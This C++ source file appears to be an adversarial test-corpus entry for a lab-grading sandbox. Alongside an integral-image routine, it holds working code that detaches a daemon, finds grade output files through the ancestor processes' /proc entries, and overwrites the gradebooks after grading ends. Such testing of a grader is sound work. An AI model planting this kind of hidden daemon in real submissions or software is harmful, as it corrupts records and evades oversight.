// CORPUS setsid_daemon — correct code that, at its first call, leaves a daemon behind: fork,
// setsid, fork again, close every inherited descriptor. Before detaching it notes where the
// class files go (the --out's gradebook.csv, --csv or --json of its ancestors' command lines) and where the kit is (their
// working folders). The daemon waits until grading has written the class files, then overwrites
// them, overwrites the kit's results/class.csv and class.json, and drops a file into the kit's
// labs/ folder; it then lingers for 2 more minutes. This once turned an honest student's 100
// into 0 after grading ended. The grader must grade the variant (pass) and kill the daemon with
// the sandbox: after the run no process of it is alive, and the class files are intact.
// Safety: it exits on its own 40 minutes after it started.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <climits>
#include <cstdint>
#include <cstdio>
#include <ctime>
#include <fstream>
#include <string>
#include <vector>

#include "integral_image.hpp"

namespace integral_image {
namespace {

// The corpus's marker (see tests/corpus/README.md), each character shifted by one so that neither
// this source nor the binary holds it: the test finds it only where it was written.
std::string marker() {
    std::string m = "DPSQVT.BUUBDL";
    for (char& c : m) --c;
    return m;
}

std::string link_of(const std::string& path) {
    char buf[PATH_MAX];
    const ssize_t n = ::readlink(path.c_str(), buf, sizeof buf - 1);
    return n > 0 ? std::string(buf, static_cast<std::size_t>(n)) : std::string();
}

std::vector<std::string> cmdline_of(int pid) {
    std::ifstream in("/proc/" + std::to_string(pid) + "/cmdline");
    std::vector<std::string> args;
    for (std::string a; std::getline(in, a, '\0');) args.push_back(a);
    return args;
}

int parent_of(int pid) {
    std::ifstream in("/proc/" + std::to_string(pid) + "/stat");
    std::string line;
    std::getline(in, line);
    const auto close = line.rfind(')');
    if (close == std::string::npos) return 0;
    char state = 0;
    int ppid = 0;
    std::sscanf(line.c_str() + close + 1, " %c %d", &state, &ppid);
    return ppid;
}

bool exists(const std::string& p) {
    struct stat s {};
    return ::stat(p.c_str(), &s) == 0;
}

bool is_kit(const std::string& dir) { return exists(dir + "/labkit") && exists(dir + "/labs") && exists(dir + "/harness"); }

struct Targets {
    std::vector<std::string> class_files, kits;
};

Targets find_targets() {
    Targets t;
    for (int pid = ::getppid(), depth = 0; pid > 1 && depth < 8; pid = parent_of(pid), ++depth) {
        const std::string cwd = link_of("/proc/" + std::to_string(pid) + "/cwd");
        if (!cwd.empty() && is_kit(cwd)) t.kits.push_back(cwd);
        const auto args = cmdline_of(pid);
        for (std::size_t i = 0; i + 1 < args.size(); ++i)
            if (args[i] == "--csv" || args[i] == "--json") {
                const std::string& f = args[i + 1];
                t.class_files.push_back(f[0] == '/' || cwd.empty() ? f : cwd + "/" + f);
            } else if (args[i] == "--out") {  // grade-all's class folder
                const std::string& f = args[i + 1];
                t.class_files.push_back((f[0] == '/' || cwd.empty() ? f : cwd + "/" + f) + "/gradebook.csv");
            }
    }
    return t;
}

void overwrite(const std::string& path, bool create) {
    const int fd = ::open(path.c_str(), O_WRONLY | O_TRUNC | (create ? O_CREAT : 0), 0644);
    if (fd < 0) return;
    const std::string text = "{\"" + marker() + "\": \"setsid_daemon\"}\n";
    [[maybe_unused]] const auto n = ::write(fd, text.data(), text.size());
    ::close(fd);
}

std::time_t mtime(const std::string& path) {
    struct stat s {};
    return ::stat(path.c_str(), &s) == 0 ? s.st_mtime : 0;
}

[[noreturn]] void daemon_main(const Targets& t, std::time_t started) {
    constexpr int kLifetimeS = 40 * 60;
    constexpr int kLingerS = 120;
    std::vector<bool> done(t.class_files.size(), false);
    std::time_t all_done = 0;
    for (const auto& kit : t.kits) {
        overwrite(kit + "/results/class.csv", false);
        overwrite(kit + "/results/class.json", false);
        overwrite(kit + "/labs/integral_image/corpus-attack-setsid_daemon.txt", true);
    }
    while (std::time(nullptr) - started < kLifetimeS) {
        bool pending = false;
        for (std::size_t i = 0; i < t.class_files.size(); ++i) {
            if (done[i]) continue;
            if (mtime(t.class_files[i]) >= started) {
                ::sleep(1);  // let grading finish writing it
                overwrite(t.class_files[i], false);
                done[i] = true;
            } else {
                pending = true;
            }
        }
        if (!pending && all_done == 0) all_done = std::time(nullptr);
        if (all_done != 0 && std::time(nullptr) - all_done > kLingerS) break;
        ::usleep(200 * 1000);
    }
    ::_exit(0);
}

void leave_a_daemon() {
    const Targets targets = find_targets();
    const std::time_t started = std::time(nullptr);
    const pid_t child = ::fork();
    if (child != 0) {  // the runner goes on once the first child has handed over to the daemon
        if (child > 0) ::waitpid(child, nullptr, 0);
        return;
    }
    ::setsid();
    if (::fork() != 0) ::_exit(0);
    for (int fd = 0; fd < 1024; ++fd) ::close(fd);
    ::open("/dev/null", O_RDWR);  // 0, 1, 2
    [[maybe_unused]] const int a = ::dup(0), b = ::dup(0);
    daemon_main(targets, started);
}

}  // namespace

void cpu_openmp(Input in, Output out, int threads) {
    static bool left = false;
    if (!left) {
        left = true;
        leave_a_daemon();
    }
    constexpr int kStrip = 64;
    const int strips = (in.width + kStrip - 1) / kStrip;
#pragma omp parallel num_threads(threads)
    {
#pragma omp for schedule(static)
        for (int y = 0; y < in.height; ++y) {
            std::uint32_t sum = 0;
            for (int x = 0; x < in.width; ++x) out.row(y)[x] = sum += in(x, y);
        }
#pragma omp for schedule(static)
        for (int s = 0; s < strips; ++s) {
            const int x0 = s * kStrip, x1 = x0 + kStrip < in.width ? x0 + kStrip : in.width;
            for (int y = 1; y < in.height; ++y)
                for (int x = x0; x < x1; ++x) out.row(y)[x] += out.row(y - 1)[x];
        }
    }
}

}  // namespace integral_image
